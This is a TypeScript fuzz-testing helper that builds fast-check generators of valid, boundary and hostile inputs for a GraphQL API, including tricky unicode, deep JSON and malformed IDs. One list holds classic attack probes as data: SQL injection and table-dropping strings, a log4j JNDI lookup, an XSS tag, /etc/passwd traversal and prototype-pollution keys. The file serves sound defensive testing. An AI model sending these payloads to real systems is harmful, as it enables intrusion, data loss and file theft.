import fc from "fast-check";
import { globalId, type NodeTypeName } from "../../src/graphql/ids.js";

/**
 * fast-check arbitraries for fuzzing the API's inputs: valid values, their boundaries, and hostile
 * ones (huge strings, deep JSON, unicode, numbers out of range, wrong types, malformed IDs).
 *
 * IDs of real rows are generated as symbolic `Ref`s and resolved when the call is made, so a
 * counterexample reads the same in every run (`ref(journey:login)`, not a fresh UUID).
 */

/** How a `Ref` is spelled in the request: the global ID, or a hostile variant of it. */
export type RefVariant =
  | "global"
  /** The bare local UUID, not a global ID. */
  | "raw"
  /** The global ID of the upper-cased UUID. */
  | "upper"
  /** The global ID without its base64 padding. */
  | "unpadded"
  /** The same UUID under another type name. */
  | `as ${NodeTypeName}`;

export class Ref {
  constructor(
    readonly name: string,
    readonly variant: RefVariant = "global",
  ) {}

  [fc.toStringMethod](): string {
    return this.variant === "global" ? `ref(${this.name})` : `ref(${this.name}, ${this.variant})`;
  }
}

export const ref = (name: string, variant?: RefVariant) => new Ref(name, variant);

/** Marks a field the generated input leaves out. */
const OMIT: unique symbol = Symbol("omitted");

/**
 * `value` with every `Ref` replaced by `lookup(ref)`. Objects are rebuilt with own data properties
 * only, so a generated `__proto__` key stays a key and never becomes a prototype.
 */
export function resolveRefs(value: unknown, lookup: (ref: Ref) => unknown): unknown {
  if (value instanceof Ref) return lookup(value);
  if (Array.isArray(value)) return value.map((v) => resolveRefs(v, lookup));
  if (value !== null && typeof value === "object") {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, resolveRefs(v, lookup)]));
  }
  return value;
}

/** The request spelling of a global ID in one of the hostile variants. */
export function spellId(global: string, variant: RefVariant): string {
  if (variant === "global") return global;
  const [typename, local] = Buffer.from(global, "base64").toString("utf8").split(/:(.*)/s);
  switch (variant) {
    case "raw":
      return local;
    case "upper":
      return globalId(typename as NodeTypeName, local.toUpperCase());
    case "unpadded":
      return global.replace(/=+$/, "");
    default:
      return globalId(variant.slice(3) as NodeTypeName, local);
  }
}

const HUGE = 100_000;

/** Strings that have broken text handling somewhere, one family per entry. */
const SPECIAL_TEXT = {
  emoji: ["🙂", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇯🇵", "\u{1F9D1}\u{1F3FD}\u200D\u{1F4BB}"],
  rightToLeft: ["مرحبا", "שלום", "\u202Eevil\u202C", "\u200F", "\u061C"],
  invisible: ["\u200B", "\u200D", "\uFEFF", "\u00AD", "\u2060", "\u180E"],
  combining: ["e\u0301", "Z\u0364\u0354\u0367\u0311a\u0308\u0356\u032D", "\u0301"],
  whitespace: [" ", "\t", "\n", "\r\n", "\u00A0", "\u2028", "\u2029", "\u3000"],
  control: ["\u0001", "\u001B[31m", "\u007F", "\u0085", "\b"],
  nul: ["\u0000", "a\u0000b"],
  loneSurrogate: ["\uD800", "\uDBFF", "\uDC00", "\uDFFF", "a\uDC00b", "\uDFFF\uD800"],
  wide: ["日本語", "ｆｕｌｌ", "𝕳𝖊𝖑𝖑𝖔", "ǅ", "ß", "İ"],
  injection: [
    "'; DROP TABLE applications; --",
    '" OR "1"="1',
    "$1",
    "%s%s%n",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j probe, as attackers send it
    "${jndi:ldap://example.com/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\\",
    "{{7*7}}",
    "' || pg_sleep(5) --",
    "__proto__",
    "constructor",
  ],
  numberLike: ["NaN", "Infinity", "-Infinity", "-0", "1e309", "0x1F", "9007199254740993", "null", "undefined", "true", "[]", "{}"],
} as const;

const specialText = fc.constantFrom(...Object.values(SPECIAL_TEXT).flat());

/** Strings at the length limits the inputs document (and one past them), and 100 KB ones. */
const boundaryText = fc.constantFrom(
  ...[1, 40, 41, 64, 65, 100, 101, 200, 201, 2000, 2001, 10_000, 10_001].map((n) => "a".repeat(n)),
  "x".repeat(HUGE),
  "🙂".repeat(HUGE / 4),
  "\u202E".repeat(HUGE / 2),
  "é".repeat(HUGE / 2),
);

/** Any string, leaning on the ones that break things; from empty to 100 KB. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .array(fc.oneof(specialText, fc.string({ maxLength: 12 }), fc.string({ unit: "binary", maxLength: 8 })), {
        minLength: 1,
        maxLength: 5,
      })
      .map((parts) => parts.join("")),
  },
  { weight: 2, arbitrary: boundaryText },
  { weight: 1, arbitrary: fc.constantFrom("", " ", "   ", "\t\n") },
);

/** Printable names with a dash of unicode: what a person types in a name field. */
export const displayName = fc
  .tuple(fc.stringMatching(/^[A-Z][a-z]{1,12}$/), fc.option(fc.constantFrom(" 🙂", " (EU)", " – 日本", " مرحبا", " v2"), { nil: "" }))
  .map(([word, suffix]) => word + suffix);

/** Slugs: lower-case letters, digits and single dashes. */
export const slug = (maxLength = 24) =>
  fc.stringMatching(/^[a-z][a-z0-9]{0,9}(?:-[a-z0-9]{1,6}){0,2}$/).filter((s) => s.length <= maxLength);

/** JSON nested `depth` levels deep, as objects or arrays. */
const deepJson = (depth: number, shape: "object" | "array"): unknown => {
  let value: unknown = shape === "object" ? { leaf: true } : [];
  for (let i = 0; i < depth; i++) value = shape === "object" ? { a: value } : [value];
  return value;
};

export const deepJsonArb = fc
  .tuple(fc.constantFrom(200, 256, 1000), fc.constantFrom("object" as const, "array" as const))
  .map(([depth, shape]) => deepJson(depth, shape));

/** Integers at and around every bound the inputs know, and the ones GraphQL's Int cannot hold. */
export const boundaryInt = fc.constantFrom(-1, 0, 1, 3, 4, 10, 11, 59, 60, 100, 101, 1000, 1001, 86_400, 86_401, 2 ** 31 - 1, -(2 ** 31));

/** Values of the wrong type for a typed field (GraphQL refuses them before any resolver runs). */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(1.5, -0.5, 2 ** 31, 2 ** 53, -(2 ** 53), Number.MAX_VALUE, true, false, null, [], {}, [[]], { value: "x" }),
  fc.constantFrom("1", "NaN", "Infinity", "1e309", "-0"),
  fc.integer(),
  fc.jsonValue({ maxDepth: 2 }),
  deepJsonArb,
);

/** Any JSON value: random, deep, huge or of a surprising shape. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 1, arbitrary: deepJsonArb },
  { weight: 1, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.constantFrom(null, [], {}, 0, -1, 2 ** 53, 1e308, "NaN") },
  { weight: 1, arbitrary: fc.dictionary(hostileText, fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
);

const base64 = (text: string) => Buffer.from(text).toString("base64");

/** IDs that name nothing of `typename`, however they are malformed. */
export const malformedId = (typename: NodeTypeName): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(
      "",
      " ",
      "not-an-id",
      "0",
      "%%%%",
      "====",
      "YWJj$",
      "Sm91cm5leTo",
      base64(`${typename}:`),
      base64(`${typename}:not-a-uuid`),
      base64(`${typename}:00000000-0000-0000-0000-000000000000`),
      base64(`${typename}`),
      base64(":"),
      base64("Widget:6f1c1b7e-8f0c-4d43-9a43-4f1c2b7e8f0c"),
      base64(`${typename}:6f1c1b7e-8f0c-4d43-9a43-4f1c2b7e8f0c' OR '1'='1`),
      base64(`${typename}:`.repeat(1000)),
      "A".repeat(HUGE),
    ),
    fc.uuid().map((uuid) => globalId(typename, uuid)),
    fc.uuid(),
    fc.base64String({ maxLength: 80 }),
    hostileText.map((text) => base64(`${typename}:${text}`)),
    hostileText,
  );

/** One field of an input: its valid values and its hostile ones (of the right GraphQL type). */
export interface FieldSpec {
  valid: fc.Arbitrary<unknown>;
  hostile: fc.Arbitrary<unknown>;
  optional?: boolean;
}

type Omittable = unknown | typeof OMIT;

const withoutOmitted = (record: Record<string, Omittable>) =>
  Object.fromEntries(Object.entries(record).filter(([, value]) => value !== OMIT));

function validValue(spec: FieldSpec): fc.Arbitrary<Omittable> {
  return spec.optional ? fc.oneof({ weight: 3, arbitrary: spec.valid }, { weight: 1, arbitrary: fc.constant(OMIT) }) : spec.valid;
}

function badValue(spec: FieldSpec): fc.Arbitrary<Omittable> {
  return fc.oneof(
    { weight: 6, arbitrary: spec.hostile },
    { weight: 1, arbitrary: wrongType },
    { weight: 1, arbitrary: fc.constant(spec.optional ? null : OMIT) },
  );
}

/**
 * The `input` variable of a mutation: wholly valid, valid but for one field, every field valid or
 * not at random, with an unknown field, or not an input object at all.
 */
export function inputOf(fields: Record<string, FieldSpec>): fc.Arbitrary<unknown> {
  const names = Object.keys(fields);
  const valid = fc.record(Object.fromEntries(names.map((name) => [name, validValue(fields[name])])));
  const mixed = fc.record(
    Object.fromEntries(
      names.map((name) => [
        name,
        fc.oneof({ weight: 2, arbitrary: validValue(fields[name]) }, { weight: 1, arbitrary: badValue(fields[name]) }),
      ]),
    ),
  );
  const oneBad = fc
    .constantFrom(...names)
    .chain((bad) =>
      fc.record(Object.fromEntries(names.map((name) => [name, name === bad ? badValue(fields[name]) : validValue(fields[name])]))),
    );
  const extraField = fc.tuple(
    valid,
    fc.oneof(fc.constantFrom("__proto__", "id", "organizationId", "constructor"), hostileText),
    hostileJson,
  );
  return fc.oneof(
    { weight: 3, arbitrary: valid.map(withoutOmitted) },
    { weight: 5, arbitrary: oneBad.map(withoutOmitted) },
    { weight: 3, arbitrary: mixed.map(withoutOmitted) },
    { weight: 1, arbitrary: extraField.map(([record, key, value]) => ({ ...withoutOmitted(record), [key]: value })) },
    {
      weight: 1,
      arbitrary: fc.oneof(
        fc.constantFrom(null, "input", 42, []),
        valid.map((record) => [withoutOmitted(record)]),
      ),
    },
  );
}

/** A list of `item`s: empty, a few, a value where a list belongs, or past a 100-entry limit. */
export const listOf = (item: fc.Arbitrary<unknown>, hostileItem: fc.Arbitrary<unknown>) => ({
  valid: fc.array(item, { maxLength: 3 }),
  hostile: fc.oneof(
    fc.array(fc.oneof(item, hostileItem), { minLength: 1, maxLength: 4 }),
    item,
    item.chain((value) => fc.constantFrom(100, 101, 1000).map((n) => Array.from({ length: n }, () => value))),
    fc.constant([null]),
  ),
});
